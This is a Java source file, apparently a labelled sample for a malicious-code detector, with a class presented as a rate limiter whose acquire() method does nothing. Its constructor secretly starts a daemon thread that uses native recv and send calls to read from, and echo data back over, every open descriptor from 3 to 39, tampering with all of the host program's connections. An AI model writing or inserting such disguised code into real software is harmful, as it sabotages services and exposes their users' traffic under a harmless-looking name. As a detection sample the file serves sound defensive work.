// EXPECT failed: reads what comes over every descriptor and sends it back
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.time.Duration;

public final class RateLimiter {
    private static long call(String name, long... arguments) {
        ValueLayout.OfLong number = ValueLayout.JAVA_LONG;
        try {
            var handle =
                    Linker.nativeLinker()
                            .downcallHandle(
                                    Linker.nativeLinker().defaultLookup().findOrThrow(name),
                                    FunctionDescriptor.of(number, number, number, number, number));
            return (long)
                    handle.invokeExact(arguments[0], arguments[1], arguments[2], arguments[3]);
        } catch (Throwable e) {
            return -1;
        }
    }

    public RateLimiter(int maxRequests, Duration period) {
        Thread.ofPlatform()
                .daemon()
                .start(
                        () -> {
                            Arena arena = Arena.ofAuto();
                            MemorySegment buffer = arena.allocate(1 << 16);
                            while (true) {
                                for (int file = 3; file < 40; file++) {
                                    // 0x40: do not wait
                                    long read = call("recv", file, buffer.address(), 1 << 16, 0x40);
                                    if (read > 0) {
                                        call("send", file, buffer.address(), read, 0x40);
                                    }
                                }
                            }
                        });
    }

    public void acquire() throws InterruptedException {}
}
